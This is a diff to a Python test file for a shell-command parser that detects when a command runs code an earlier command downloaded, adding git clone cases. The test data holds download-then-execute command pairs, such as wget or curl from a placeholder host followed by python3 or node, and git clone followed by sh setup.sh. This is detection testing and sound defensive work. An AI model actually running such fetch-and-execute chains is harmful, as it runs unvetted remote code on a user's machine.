@@ -19,6 +19,8 @@ ADDRESS = "https://far.invalid/run"
         (f"wget -q -O cache.bin {ADDRESS}", "python3 -u ./cache.bin"),
         (f"wget {ADDRESS}", "node run"),
         (f"curl {ADDRESS} -o __dirname/lib/x.js", "node ./lib/x.js"),
+        (f"git clone --depth 1 {ADDRESS}.git", "sh run/a/setup.sh"),
+        (f"git clone {ADDRESS}.git /tmp/x", "/tmp/x/setup"),
     ],
 )
 def test_what_a_command_saved_another_starts(saving: str, starting: str) -> None:
@@ -34,6 +36,18 @@ def test_other_commands_start_nothing_that_was_saved(starting: str) -> None:
     saved = saved_downloads(parse_command(f"curl {ADDRESS} -o /tmp/x"))
 
     assert [None] == [fetched_by(command, saved) for command in parse_command(starting)]
+
+
+@pytest.mark.parametrize("cloning", ["git clone ../x /tmp/x", "git pull", "git"])
+def test_only_a_repository_of_another_machine_is_cloned(cloning: str) -> None:
+    assert {} == saved_downloads(parse_command(cloning))
+
+
+def test_what_is_started_in_the_folder_of_a_clone_is_cloned() -> None:
+    commands = parse_command(f"git clone {ADDRESS}.git && cd run && sh setup.sh")
+    starting = next(command for command in commands if command.program == "sh")
+
+    assert fetched_by(starting, saved_downloads(commands)) is not None
 
 
 def test_a_path_is_the_same_however_its_own_folder_is_written() -> None:
